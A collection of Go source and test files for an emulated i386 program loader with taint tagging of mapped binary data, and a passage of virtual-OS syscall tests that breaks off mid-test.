// Load remains the pre-decoded entry point behind Open; callers that
// already hold an *image.Image (or cache decodes) keep using it, and
// the two are behavior-identical for any image Open would produce.
func (m *Map) Open(cpu *isa.CPU, name string, data []byte, env *Env) (*Loaded, error) {
	img, err := image.Decode(name, data)
	if err != nil {
		return nil, err
	}
	return m.Load(cpu, img, env)
}
