// Package loader maps images into a process address space: it lays
// out sections, resolves symbols and relocations across imported
// shared objects, binds native routines, and — when a taint shadow is
// attached — tags every mapped byte with the BINARY data source of its
// image, implementing the paper's loader events (§7.3.2): hardcoded
// data is found because it entered memory from a binary.
package loader

import (
	"fmt"

	"repro/internal/image"
	"repro/internal/isa"
	"repro/internal/taint"
)

// Base addresses follow the classic Linux i386 layout the paper's
// warnings show: executables low, shared objects high.
const (
	ExecBase = 0x08048000
	LibBase  = 0x40000000
	alignTo  = 0x1000
)

// Env supplies the loader's external needs: how to find a shared
// object by name, the native routine registry, and an optional load
// notification (Harrier's image-level instrumentation, paper Table 3).
type Env struct {
	Resolve func(name string) (*image.Image, error)
	Natives map[string]func(*isa.CPU)
	OnLoad  func(li *Loaded)
}

// Loaded describes one image mapped into a process.
type Loaded struct {
	Image        *image.Image
	Base         uint32
	SectionBases []uint32
	Spans        []*isa.Span
	End          uint32
}

// SymbolAddr returns the runtime address of a symbol defined by this
// image.
func (li *Loaded) SymbolAddr(name string) (uint32, bool) {
	sym, ok := li.Image.Symbols[name]
	if !ok {
		return 0, false
	}
	base := li.SectionBases[sym.Section]
	if li.Image.Sections[sym.Section].Kind == image.Text {
		return base + uint32(sym.Offset)*isa.InstrSize, true
	}
	return base + uint32(sym.Offset), true
}

// EntryAddr returns the runtime address of the image's entry symbol.
func (li *Loaded) EntryAddr() (uint32, error) {
	entry := li.Image.Entry
	if entry == "" {
		entry = "_start"
	}
	addr, ok := li.SymbolAddr(entry)
	if !ok {
		return 0, fmt.Errorf("loader: image %s has no entry symbol %q", li.Image.Name, entry)
	}
	return addr, nil
}

// Map tracks the images loaded into one process.
type Map struct {
	loaded  map[string]*Loaded
	order   []*Loaded
	libNext uint32
	natives map[string]int // native name -> cpu.Natives index
	started bool           // the root (executable) load has begun
}

// NewMap returns an empty per-process image map.
func NewMap() *Map {
	return &Map{
		loaded:  make(map[string]*Loaded),
		libNext: LibBase,
		natives: make(map[string]int),
	}
}

// Loaded returns the previously loaded image of that name, if any.
func (m *Map) Loaded(name string) (*Loaded, bool) {
	li, ok := m.loaded[name]
	return li, ok
}

// Images returns all loaded images in load order.
func (m *Map) Images() []*Loaded { return m.order }

// ImageAt returns the name of the image whose mapping covers addr.
func (m *Map) ImageAt(addr uint32) (string, bool) {
	for _, li := range m.order {
		if addr >= li.Base && addr < li.End {
			return li.Image.Name, true
		}
	}
	return "", false
}

// Clone shares the loaded images (they are immutable after load) for
// fork(): the child sees the same mappings.
func (m *Map) Clone() *Map {
	out := &Map{
		loaded:  make(map[string]*Loaded, len(m.loaded)),
		order:   append([]*Loaded(nil), m.order...),
		libNext: m.libNext,
		natives: make(map[string]int, len(m.natives)),
		started: m.started,
	}
	for k, v := range m.loaded {
		out.loaded[k] = v
	}
	for k, v := range m.natives {
		out.natives[k] = v
	}
	return out
}

// Load maps img (and, recursively, its imports) into the process whose
// CPU is given. The image that initiates the first Load on a map is
// treated as the executable and placed at ExecBase; shared objects are
// placed in the library region. When the CPU carries a taint shadow,
// every mapped data byte is tagged BINARY:<image name>.
func (m *Map) Load(cpu *isa.CPU, img *image.Image, env *Env) (*Loaded, error) {
	root := !m.started
	m.started = true
	return m.load(cpu, img, env, root)
}

func (m *Map) load(cpu *isa.CPU, img *image.Image, env *Env, root bool) (*Loaded, error) {
	if li, ok := m.loaded[img.Name]; ok {
		return li, nil
	}
	if err := img.Validate(); err != nil {
		return nil, err
	}

	// Imports first, so their symbols are available for relocation.
	var deps []*Loaded
	for _, dep := range img.Imports {
		depImg, err := resolveDep(env, dep)
		if err != nil {
			return nil, fmt.Errorf("loader: %s imports %s: %w", img.Name, dep, err)
		}
		li, err := m.load(cpu, depImg, env, false)
		if err != nil {
			return nil, err
		}
		deps = append(deps, li)
	}

	li := &Loaded{Image: img}
	if root {
		li.Base = ExecBase
	} else {
		li.Base = m.libNext
	}

	// Pinned sections (Section.Addr != 0: the ELF frontend keeps data
	// at its link-time virtual addresses) claim their ranges first;
	// the contiguous page-aligned auto-layout cursor then starts past
	// the base and past every pinned range, so the two never collide.
	// Images with no pinned sections — every in-house image — take the
	// exact layout they always have.
	li.SectionBases = make([]uint32, len(img.Sections))
	addr := li.Base
	lo, hi := li.Base, li.Base
	for i := range img.Sections {
		sec := &img.Sections[i]
		if sec.Addr == 0 {
			continue
		}
		li.SectionBases[i] = sec.Addr
		// The end address is computed in uint64: Addr and Size are
		// image-controlled, and a section pinned near the top of the
		// address space would wrap a uint32 sum to a small value that
		// slips past every overlap check and the auto-layout cursor
		// bump below, silently aliasing other mapped memory.
		end64 := uint64(sec.Addr) + uint64(sec.Size())
		if end64 > 0xFFFFFFFF {
			return nil, fmt.Errorf("loader: image %s: section %s range [%#x,%#x) exceeds the 32-bit address space: %w",
				img.Name, sec.Name, sec.Addr, end64, image.ErrBadImage)
		}
		end := uint32(end64)
		if sec.Addr < lo {
			lo = sec.Addr
		}
		if end > hi {
			hi = end
		}
		if a := align(end); a > addr {
			addr = a
		}
		// A pinned range colliding with an already-mapped image is a
		// malformed or adversarial layout: fail the load, don't
		// silently clobber another image's memory.
		for _, prev := range m.order {
			if sec.Addr < prev.End && prev.Base < end {
				return nil, fmt.Errorf("loader: image %s: section %s at %#x overlaps %s [%#x,%#x)",
					img.Name, sec.Name, sec.Addr, prev.Image.Name, prev.Base, prev.End)
			}
		}
		for j := 0; j < i; j++ {
			prev := &img.Sections[j]
			if prev.Addr == 0 || prev.Size() == 0 || sec.Size() == 0 {
				continue
			}
			if sec.Addr < prev.Addr+prev.Size() && prev.Addr < end {
				return nil, fmt.Errorf("loader: image %s: pinned sections %s and %s overlap",
					img.Name, prev.Name, sec.Name)
			}
		}
	}
	for i := range img.Sections {
		if img.Sections[i].Addr != 0 {
			continue
		}
		li.SectionBases[i] = addr
		addr += align(img.Sections[i].Size())
	}
	if addr > hi {
		hi = addr
	}
	li.Base = lo
	li.End = hi
	if !root {
		m.libNext = align(hi)
	}

	m.loaded[img.Name] = li
	m.order = append(m.order, li)

	// Map data sections; tag BINARY (paper §7.3.2: loader events).
	var binTag taint.Tag
	if cpu.Shadow != nil {
		binTag = cpu.Shadow.Store().Of(taint.Source{Type: taint.Binary, Name: img.Name})
	}
	for i := range img.Sections {
		sec := &img.Sections[i]
		if sec.Kind == image.Text {
			continue
		}
		cpu.Mem.WriteBytes(li.SectionBases[i], sec.Data)
		if cpu.Shadow != nil && len(sec.Data) > 0 {
			cpu.Shadow.SetRange(li.SectionBases[i], uint32(len(sec.Data)), binTag)
		}
	}

	// Symbol resolution scope: this image, then its imports in order.
	resolve := func(name string) (uint32, error) {
		if a, ok := li.SymbolAddr(name); ok {
			return a, nil
		}
		for _, dep := range deps {
			if a, ok := dep.SymbolAddr(name); ok {
				return a, nil
			}
		}
		return 0, fmt.Errorf("loader: image %s: undefined symbol %q", img.Name, name)
	}

	// Build text spans with relocations and native bindings applied.
	for i := range img.Sections {
		sec := &img.Sections[i]
		if sec.Kind != image.Text {
			continue
		}
		instrs := append([]isa.Instr(nil), sec.Instrs...)
		// Bind natives: rewrite image-local indices to the CPU table.
		for j := range instrs {
			if instrs[j].Op != isa.NATIVE {
				continue
			}
			name := img.Natives[instrs[j].Native]
			idx, ok := m.natives[name]
			if !ok {
				fn, found := env.Natives[name]
				if !found {
					return nil, fmt.Errorf("loader: image %s needs native routine %q", img.Name, name)
				}
				idx = len(cpu.Natives)
				cpu.Natives = append(cpu.Natives, isa.Native{Name: name, Fn: fn})
				m.natives[name] = idx
			}
			instrs[j].Native = idx
		}
		// Apply text relocations for this section.
		for _, r := range img.Relocs {
			if r.Section != i {
				continue
			}
			addr, err := resolve(r.Symbol)
			if err != nil {
				return nil, err
			}
			op := &instrs[r.Instr].A
			if r.Slot == image.SlotB {
				op = &instrs[r.Instr].B
			}
			op.Imm += addr
		}
		span := isa.NewSpan(li.SectionBases[i], img.Name, instrs, img.TextSymbols(i))
		li.Spans = append(li.Spans, span)
		if err := cpu.Code.Add(span); err != nil {
			return nil, fmt.Errorf("loader: mapping %s: %w", img.Name, err)
		}
	}

	// Apply data relocations.
	for _, r := range img.DataRels {
		addr, err := resolve(r.Symbol)
		if err != nil {
			return nil, err
		}
		cpu.Mem.Store32(li.SectionBases[r.Section]+uint32(r.Offset), addr+r.Addend)
		if cpu.Shadow != nil {
			cpu.Shadow.SetWord(li.SectionBases[r.Section]+uint32(r.Offset), binTag)
		}
	}

	if env.OnLoad != nil {
		env.OnLoad(li)
	}
	return li, nil
}

func resolveDep(env *Env, name string) (*image.Image, error) {
	if env.Resolve == nil {
		return nil, fmt.Errorf("no resolver configured")
	}
	return env.Resolve(name)
}

func align(n uint32) uint32 {
	return (n + alignTo - 1) &^ (alignTo - 1)
}
