package loader

import (
	"fmt"
	"strings"
	"testing"

	"repro/internal/asm"
	"repro/internal/image"
	"repro/internal/isa"
	"repro/internal/taint"
)

func newCPUWithShadow() (*isa.CPU, *taint.Store) {
	st := taint.NewStore()
	c := isa.NewCPU()
	c.Shadow = taint.NewShadow(st)
	return c, st
}

func TestLoadSimpleExecutable(t *testing.T) {
	img := asm.MustAssemble("/bin/demo", `
.entry _start
.text
_start:
    mov ebx, msg
    hlt
.data
msg: .asciz "hello"
`)
	cpu, st := newCPUWithShadow()
	m := NewMap()
	li, err := m.Load(cpu, img, &Env{})
	if err != nil {
		t.Fatal(err)
	}
	if li.Base != ExecBase {
		t.Errorf("base = %#x", li.Base)
	}
	entry, err := li.EntryAddr()
	if err != nil {
		t.Fatal(err)
	}
	if entry != ExecBase {
		t.Errorf("entry = %#x", entry)
	}
	// Data mapped after the (page-aligned) text section.
	msgAddr, ok := li.SymbolAddr("msg")
	if !ok {
		t.Fatal("msg not found")
	}
	if got := cpu.Mem.CString(msgAddr); got != "hello" {
		t.Errorf("mapped string = %q", got)
	}
	// Mapped bytes carry BINARY taint (paper §7.3.2).
	tag := cpu.Shadow.Get(msgAddr)
	if !st.Contains(tag, taint.Source{Type: taint.Binary, Name: "/bin/demo"}) {
		t.Errorf("msg tag = %s", st.String(tag))
	}
	// The mov's operand was relocated to msg's address.
	span, idx, ok := cpu.Code.Find(entry)
	if !ok {
		t.Fatal("entry not in code map")
	}
	if span.Instrs[idx].B.Imm != msgAddr {
		t.Errorf("reloc: imm = %#x, want %#x", span.Instrs[idx].B.Imm, msgAddr)
	}
}

func TestLoadWithImport(t *testing.T) {
	lib := asm.MustAssemble("libdemo.so", `
.text
helper:
    mov eax, 42
    ret
.data
libstr: .asciz "in lib"
`)
	app := asm.MustAssemble("/bin/app", `
.import "libdemo.so"
.entry _start
.text
_start:
    call helper
    mov ebx, libstr
    hlt
`)
	cpu, st := newCPUWithShadow()
	m := NewMap()
	env := &Env{Resolve: func(name string) (*image.Image, error) {
		if name == "libdemo.so" {
			return lib, nil
		}
		return nil, fmt.Errorf("not found: %s", name)
	}}
	li, err := m.Load(cpu, app, env)
	if err != nil {
		t.Fatal(err)
	}
	libLoaded, ok := m.Loaded("libdemo.so")
	if !ok {
		t.Fatal("library not loaded")
	}
	if libLoaded.Base < LibBase {
		t.Errorf("lib base = %#x", libLoaded.Base)
	}
	// Run it: call into the lib must work.
	entry, _ := li.EntryAddr()
	cpu.EIP = entry
	cpu.Regs[isa.ESP] = 0x00200000
	for !cpu.Halted {
		if err := cpu.Step(); err != nil {
			t.Fatal(err)
		}
	}
	if cpu.Regs[isa.EAX] != 42 {
		t.Errorf("eax = %d", cpu.Regs[isa.EAX])
	}
	// Library data tagged with the library's BINARY source.
	addr, _ := libLoaded.SymbolAddr("libstr")
	if !st.Contains(cpu.Shadow.Get(addr), taint.Source{Type: taint.Binary, Name: "libdemo.so"}) {
		t.Error("lib data missing BINARY tag")
	}
	// Code ownership: the helper span belongs to the library image.
	span, _, _ := cpu.Code.Find(libLoaded.Base)
	if span.Image != "libdemo.so" {
		t.Errorf("span image = %q", span.Image)
	}
}

func TestLoadMissingImport(t *testing.T) {
	app := asm.MustAssemble("/bin/app", `
.import "nope.so"
.text
_start: hlt
`)
	cpu, _ := newCPUWithShadow()
	_, err := NewMap().Load(cpu, app, &Env{Resolve: func(string) (*image.Image, error) {
		return nil, fmt.Errorf("no such library")
	}})
	if err == nil || !strings.Contains(err.Error(), "nope.so") {
		t.Errorf("err = %v", err)
	}
}

func TestLoadUndefinedSymbol(t *testing.T) {
	lib := asm.MustAssemble("l.so", ".text\nx: ret\n")
	app := asm.MustAssemble("/bin/app", `
.import "l.so"
.text
_start: call missing
`)
	cpu, _ := newCPUWithShadow()
	env := &Env{Resolve: func(string) (*image.Image, error) { return lib, nil }}
	_, err := NewMap().Load(cpu, app, env)
	if err == nil || !strings.Contains(err.Error(), "missing") {
		t.Errorf("err = %v", err)
	}
}

func TestLoadNativeBinding(t *testing.T) {
	lib := asm.MustAssemble("libc.so", `
.text
getpid_native:
    .native getpid_native
`)
	app := asm.MustAssemble("/bin/app", `
.import "libc.so"
.entry _start
.text
_start:
    call getpid_native
    hlt
`)
	cpu, _ := newCPUWithShadow()
	called := false
	env := &Env{
		Resolve: func(string) (*image.Image, error) { return lib, nil },
		Natives: map[string]func(*isa.CPU){
			"getpid_native": func(c *isa.CPU) { called = true; c.Regs[isa.EAX] = 7 },
		},
	}
	li, err := NewMap().Load(cpu, app, env)
	if err != nil {
		t.Fatal(err)
	}
	entry, _ := li.EntryAddr()
	cpu.EIP = entry
	cpu.Regs[isa.ESP] = 0x00200000
	for !cpu.Halted {
		if err := cpu.Step(); err != nil {
			t.Fatal(err)
		}
	}
	if !called || cpu.Regs[isa.EAX] != 7 {
		t.Error("native not bound/executed")
	}
}

func TestLoadNativeMissing(t *testing.T) {
	lib := asm.MustAssemble("libc.so", ".text\nf:\n .native nothere\n")
	cpu, _ := newCPUWithShadow()
	_, err := NewMap().Load(cpu, lib, &Env{})
	if err == nil || !strings.Contains(err.Error(), "nothere") {
		t.Errorf("err = %v", err)
	}
}

func TestLoadIdempotent(t *testing.T) {
	img := asm.MustAssemble("/bin/a", ".text\n_start: hlt\n")
	cpu, _ := newCPUWithShadow()
	m := NewMap()
	li1, err := m.Load(cpu, img, &Env{})
	if err != nil {
		t.Fatal(err)
	}
	li2, err := m.Load(cpu, img, &Env{})
	if err != nil {
		t.Fatal(err)
	}
	if li1 != li2 {
		t.Error("double load created a second mapping")
	}
}

func TestImageAt(t *testing.T) {
	img := asm.MustAssemble("/bin/a", ".text\n_start: hlt\n.data\nd: .space 8\n")
	cpu, _ := newCPUWithShadow()
	m := NewMap()
	li, _ := m.Load(cpu, img, &Env{})
	if name, ok := m.ImageAt(li.Base); !ok || name != "/bin/a" {
		t.Errorf("ImageAt(base) = %q, %v", name, ok)
	}
	if _, ok := m.ImageAt(0x00000004); ok {
		t.Error("ImageAt hole succeeded")
	}
}

func TestDataReloc(t *testing.T) {
	img := asm.MustAssemble("/bin/a", `
.entry _start
.text
_start:
    mov eax, [table]
    hlt
.data
target: .asciz "x"
table: .word target
`)
	cpu, _ := newCPUWithShadow()
	m := NewMap()
	li, err := m.Load(cpu, img, &Env{})
	if err != nil {
		t.Fatal(err)
	}
	tableAddr, _ := li.SymbolAddr("table")
	targetAddr, _ := li.SymbolAddr("target")
	if got := cpu.Mem.Load32(tableAddr); got != targetAddr {
		t.Errorf("data reloc: [table] = %#x, want %#x", got, targetAddr)
	}
}

func TestOnLoadCallback(t *testing.T) {
	lib := asm.MustAssemble("l.so", ".text\nf: ret\n")
	app := asm.MustAssemble("/bin/a", ".import \"l.so\"\n.text\n_start: hlt\n")
	cpu, _ := newCPUWithShadow()
	var loads []string
	env := &Env{
		Resolve: func(string) (*image.Image, error) { return lib, nil },
		OnLoad:  func(li *Loaded) { loads = append(loads, li.Image.Name) },
	}
	if _, err := NewMap().Load(cpu, app, env); err != nil {
		t.Fatal(err)
	}
	// Imports load (and notify) before the importing image.
	if len(loads) != 2 || loads[0] != "l.so" || loads[1] != "/bin/a" {
		t.Errorf("loads = %v", loads)
	}
}

func TestMapClone(t *testing.T) {
	img := asm.MustAssemble("/bin/a", ".text\n_start: hlt\n")
	cpu, _ := newCPUWithShadow()
	m := NewMap()
	m.Load(cpu, img, &Env{})
	cl := m.Clone()
	if _, ok := cl.Loaded("/bin/a"); !ok {
		t.Error("clone lost image")
	}
	if len(cl.Images()) != 1 {
		t.Error("clone image order wrong")
	}
}

func TestLoadWithoutShadow(t *testing.T) {
	// Unmonitored processes have no shadow; loading must not panic
	// and must not tag.
	img := asm.MustAssemble("/bin/a", ".text\n_start: hlt\n.data\nd: .asciz \"x\"\n")
	cpu := isa.NewCPU()
	if _, err := NewMap().Load(cpu, img, &Env{}); err != nil {
		t.Fatal(err)
	}
}

func TestTransitiveImports(t *testing.T) {
	// app -> libmid.so -> libbase.so: symbols resolve along the
	// import chain and all three images map at distinct bases.
	base := asm.MustAssemble("libbase.so", `
.text
base_fn:
    mov eax, [base_val]
    ret
.data
base_val: .word 77
`)
	mid := asm.MustAssemble("libmid.so", `
.import "libbase.so"
.text
mid_fn:
    call base_fn
    add eax, 1
    ret
`)
	app := asm.MustAssemble("/bin/app", `
.import "libmid.so"
.entry _start
.text
_start:
    call mid_fn
    hlt
`)
	cpu, _ := newCPUWithShadow()
	m := NewMap()
	env := &Env{Resolve: func(name string) (*image.Image, error) {
		switch name {
		case "libmid.so":
			return mid, nil
		case "libbase.so":
			return base, nil
		}
		return nil, fmt.Errorf("unknown %s", name)
	}}
	li, err := m.Load(cpu, app, env)
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Images()) != 3 {
		t.Fatalf("images = %d", len(m.Images()))
	}
	entry, _ := li.EntryAddr()
	cpu.EIP = entry
	cpu.Regs[isa.ESP] = 0x00200000
	for !cpu.Halted {
		if err := cpu.Step(); err != nil {
			t.Fatal(err)
		}
	}
	if cpu.Regs[isa.EAX] != 78 {
		t.Errorf("eax = %d, want 78", cpu.Regs[isa.EAX])
	}
	// Bases are disjoint.
	seen := map[uint32]bool{}
	for _, im := range m.Images() {
		if seen[im.Base] {
			t.Errorf("duplicate base %#x", im.Base)
		}
		seen[im.Base] = true
	}
}
