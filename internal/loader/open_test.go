package loader

import (
	"errors"
	"strings"
	"testing"

	"repro/internal/image"
	"repro/internal/isa"
)

// TestOpenAutoDetectsText proves Open's sniffing chain picks the text
// frontend for assembly source and the result is identical to the
// pre-decoded Load path.
func TestOpenAutoDetectsText(t *testing.T) {
	src := []byte(`
.entry _start
.text
_start:
    mov ebx, msg
    hlt
.data
msg: .asciz "hello"
`)
	cpu, _ := newCPUWithShadow()
	li, err := NewMap().Open(cpu, "/bin/demo", src, &Env{})
	if err != nil {
		t.Fatal(err)
	}
	if li.Base != ExecBase {
		t.Errorf("base = %#x", li.Base)
	}
	if got := cpu.Mem.CString(mustSym(t, li, "msg")); got != "hello" {
		t.Errorf("mapped string = %q", got)
	}
}

// TestOpenRejectsUnknownBytes pins the typed failure for bytes no
// frontend recognizes (NULs exclude the text heuristic, no ELF magic).
func TestOpenRejectsUnknownBytes(t *testing.T) {
	cpu, _ := newCPUWithShadow()
	_, err := NewMap().Open(cpu, "/bin/junk", []byte{0x00, 0x01, 0x02, 0x03}, &Env{})
	if !errors.Is(err, image.ErrBadImage) {
		t.Fatalf("want ErrBadImage, got %v", err)
	}
}

// pinnedImage builds an image with one auto-laid text section and one
// data section pinned at addr.
func pinnedImage(name string, addr uint32) *image.Image {
	im := image.New(name)
	im.Entry = "_start"
	im.Sections = []image.Section{
		{Name: ".text", Kind: image.Text, Instrs: []isa.Instr{{Op: isa.HLT}}},
		{Name: ".data", Kind: image.Data, Data: []byte("pinned"), Addr: addr},
	}
	im.Symbols["_start"] = image.Symbol{Section: 0, Offset: 0}
	im.Symbols["d"] = image.Symbol{Section: 1, Offset: 0}
	return im
}

// TestPinnedSectionLayout proves a pinned section lands exactly at its
// link address and the auto-layout cursor is placed past it, so
// translated text never collides with pinned data.
func TestPinnedSectionLayout(t *testing.T) {
	const pin = ExecBase + 0x5000
	cpu, _ := newCPUWithShadow()
	li, err := NewMap().Load(cpu, pinnedImage("/bin/pin", pin), &Env{})
	if err != nil {
		t.Fatal(err)
	}
	if got := li.SectionBases[1]; got != pin {
		t.Errorf("pinned section at %#x, want %#x", got, pin)
	}
	if got := cpu.Mem.CString(pin); got != "pinned" {
		t.Errorf("bytes at pin = %q", got)
	}
	// Text was auto-laid inside the image's range without touching the
	// pinned range.
	text := li.SectionBases[0]
	if text >= pin && text < pin+6 {
		t.Errorf("text at %#x overlaps pinned data", text)
	}
	if li.End <= pin {
		t.Errorf("image end %#x does not cover pinned section", li.End)
	}
}

// TestPinnedOverlapRejected proves two images whose pinned ranges
// collide fail as a typed load error, not a memory stomp.
func TestPinnedOverlapRejected(t *testing.T) {
	const pin = ExecBase + 0x5000
	cpu, _ := newCPUWithShadow()
	m := NewMap()
	if _, err := m.Load(cpu, pinnedImage("/bin/a", pin), &Env{}); err != nil {
		t.Fatal(err)
	}
	_, err := m.Load(cpu, pinnedImage("/bin/b", pin), &Env{})
	if err == nil {
		t.Fatal("overlapping pinned sections accepted")
	}
	if !strings.Contains(err.Error(), "overlap") {
		t.Errorf("error does not cite the overlap: %v", err)
	}
}

// TestPinnedWrapRejected proves a pinned section whose end address
// would wrap the 32-bit address space fails as a typed load error
// instead of slipping past the overlap checks with a wrapped end and
// silently aliasing other mapped memory.
func TestPinnedWrapRejected(t *testing.T) {
	im := image.New("/bin/wrap")
	im.Entry = "_start"
	im.Sections = []image.Section{
		{Name: ".text", Kind: image.Text, Instrs: []isa.Instr{{Op: isa.HLT}}},
		{Name: ".bss", Kind: image.Data, Data: make([]byte, 0x2000), Addr: 0xFFFFF000},
	}
	im.Symbols["_start"] = image.Symbol{Section: 0, Offset: 0}
	cpu, _ := newCPUWithShadow()
	_, err := NewMap().Load(cpu, im, &Env{})
	if err == nil {
		t.Fatal("address-wrapping pinned section accepted")
	}
	if !errors.Is(err, image.ErrBadImage) {
		t.Errorf("want ErrBadImage, got %v", err)
	}
}

// TestPinnedIntraImageOverlapRejected proves two pinned sections of
// one image that collide with each other are rejected at load.
func TestPinnedIntraImageOverlapRejected(t *testing.T) {
	im := image.New("/bin/self")
	im.Entry = "_start"
	im.Sections = []image.Section{
		{Name: ".text", Kind: image.Text, Instrs: []isa.Instr{{Op: isa.HLT}}},
		{Name: ".data", Kind: image.Data, Data: make([]byte, 16), Addr: ExecBase + 0x3000},
		{Name: ".data2", Kind: image.Data, Data: make([]byte, 16), Addr: ExecBase + 0x3008},
	}
	im.Symbols["_start"] = image.Symbol{Section: 0, Offset: 0}
	cpu, _ := newCPUWithShadow()
	if _, err := NewMap().Load(cpu, im, &Env{}); err == nil {
		t.Fatal("self-overlapping pinned sections accepted")
	}
}

func mustSym(t *testing.T, li *Loaded, name string) uint32 {
	t.Helper()
	a, ok := li.SymbolAddr(name)
	if !ok {
		t.Fatalf("symbol %s not found", name)
	}
	return a
}
