package vos

import (
	"strings"
	"testing"

	"repro/internal/asm"
)

// buildOS returns an OS with a program installed at /bin/prog.
func buildOS(t *testing.T, src string) *OS {
	t.Helper()
	os := New(Options{})
	os.FS.Install("/bin/prog", asm.MustAssemble("/bin/prog", src))
	return os
}

func start(t *testing.T, os *OS, spec ProcSpec) *Process {
	t.Helper()
	if spec.Path == "" {
		spec.Path = "/bin/prog"
	}
	p, err := os.StartProcess(spec)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func run(t *testing.T, os *OS) {
	t.Helper()
	if err := os.Run(); err != nil {
		t.Fatalf("run: %v", err)
	}
}

func TestHelloWorld(t *testing.T) {
	os := buildOS(t, `
.entry _start
.text
_start:
    mov ebx, 1          ; stdout
    mov ecx, msg
    mov edx, 5
    mov eax, 4          ; SYS_write
    int 0x80
    mov ebx, 0
    mov eax, 1          ; SYS_exit
    int 0x80
.data
msg: .asciz "hello"
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if got := string(os.Console); got != "hello" {
		t.Errorf("console = %q", got)
	}
	if p.State != Exited || p.ExitCode != 0 {
		t.Errorf("state=%v code=%d", p.State, p.ExitCode)
	}
}

func TestExitCode(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, 42
    mov eax, 1
    int 0x80
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 42 {
		t.Errorf("exit code = %d", p.ExitCode)
	}
}

func TestHltIsImplicitExit(t *testing.T) {
	os := buildOS(t, ".text\n_start: hlt\n")
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.State != Exited || p.ExitCode != 0 || p.Fault != nil {
		t.Errorf("state=%v code=%d fault=%v", p.State, p.ExitCode, p.Fault)
	}
}

func TestFaultTerminatesProcess(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov eax, 1
    div eax, 0
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.Fault == nil {
		t.Error("no fault recorded")
	}
	if p.State != Exited {
		t.Error("faulting process still alive")
	}
}

func TestOpenReadFile(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov ecx, 0          ; O_RDONLY
    mov eax, 5          ; SYS_open
    int 0x80
    mov ebx, eax        ; fd
    mov ecx, buf
    mov edx, 64
    mov eax, 3          ; SYS_read
    int 0x80
    ; write what was read to stdout
    mov edx, eax
    mov ecx, buf
    mov ebx, 1
    mov eax, 4
    int 0x80
    hlt
.data
path: .asciz "/etc/secret"
buf:  .space 64
`)
	os.FS.Create("/etc/secret", []byte("s3cret"))
	start(t, os, ProcSpec{})
	run(t, os)
	if got := string(os.Console); got != "s3cret" {
		t.Errorf("console = %q", got)
	}
}

func TestOpenMissingFileENOENT(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov ecx, 0
    mov eax, 5
    int 0x80
    ; exit with the (negated) result so the test can see it
    neg eax
    mov ebx, eax
    mov eax, 1
    int 0x80
.data
path: .asciz "/no/such"
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != ENOENT {
		t.Errorf("exit = %d, want ENOENT", p.ExitCode)
	}
}

func TestCreateWriteFile(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov ecx, 0
    mov eax, 8          ; SYS_creat
    int 0x80
    mov ebx, eax
    mov ecx, data
    mov edx, 4
    mov eax, 4          ; SYS_write
    int 0x80
    mov eax, 6          ; SYS_close
    int 0x80
    hlt
.data
path: .asciz "/tmp/out"
data: .asciz "ABCD"
`)
	start(t, os, ProcSpec{})
	run(t, os)
	f, ok := os.FS.Lookup("/tmp/out")
	if !ok || string(f.Data) != "ABCD" {
		t.Errorf("file = %v", f)
	}
}

func TestStdinRead(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, 0          ; stdin
    mov ecx, buf
    mov edx, 16
    mov eax, 3
    int 0x80
    mov edx, eax
    mov ecx, buf
    mov ebx, 1
    mov eax, 4
    int 0x80
    hlt
.data
buf: .space 16
`)
	start(t, os, ProcSpec{Stdin: []byte("typed")})
	run(t, os)
	if got := string(os.Console); got != "typed" {
		t.Errorf("console = %q", got)
	}
}

func TestArgvOnStack(t *testing.T) {
	// Prints argv[1].
	os := buildOS(t, `
.text
_start:
    mov esi, [esp+4]    ; argv array
    mov ebx, [esi+4]    ; argv[1]
    ; strlen inline (assume < 16): write 3 bytes for the test
    mov ecx, ebx
    mov ebx, 1
    mov edx, 3
    mov eax, 4
    int 0x80
    hlt
`)
	start(t, os, ProcSpec{Argv: []string{"/bin/prog", "abc"}})
	run(t, os)
	if got := string(os.Console); got != "abc" {
		t.Errorf("console = %q", got)
	}
}

func TestForkAndWaitpid(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov eax, 2          ; SYS_fork
    int 0x80
    cmp eax, 0
    jz child
    ; parent: waitpid(child, status, 0)
    mov ebx, eax
    mov ecx, status
    mov edx, 0
    mov eax, 7
    int 0x80
    mov eax, [status]
    shr eax, 8
    mov ebx, eax        ; exit with child's code
    mov eax, 1
    int 0x80
child:
    mov ebx, 7
    mov eax, 1
    int 0x80
.data
status: .space 4
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 7 {
		t.Errorf("parent exit = %d, want child's 7", p.ExitCode)
	}
	if len(os.Processes()) != 2 {
		t.Errorf("process count = %d", len(os.Processes()))
	}
}

func TestForkMemoryIsolation(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov [shared], 1
    mov eax, 2
    int 0x80
    cmp eax, 0
    jz child
    ; parent waits, then checks its copy is untouched
    mov ebx, eax
    mov ecx, 0
    mov edx, 0
    mov eax, 7
    int 0x80
    mov ebx, [shared]   ; should still be 1
    mov eax, 1
    int 0x80
child:
    mov [shared], 99
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
shared: .space 4
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 1 {
		t.Errorf("parent saw child's write: exit = %d", p.ExitCode)
	}
}

func TestExecve(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; SYS_execve
    int 0x80
    ; should be unreachable on success
    mov ebx, 55
    mov eax, 1
    int 0x80
.data
path: .asciz "/bin/other"
`)
	os.FS.Install("/bin/other", asm.MustAssemble("/bin/other", `
.text
_start:
    mov ebx, 33
    mov eax, 1
    int 0x80
`))
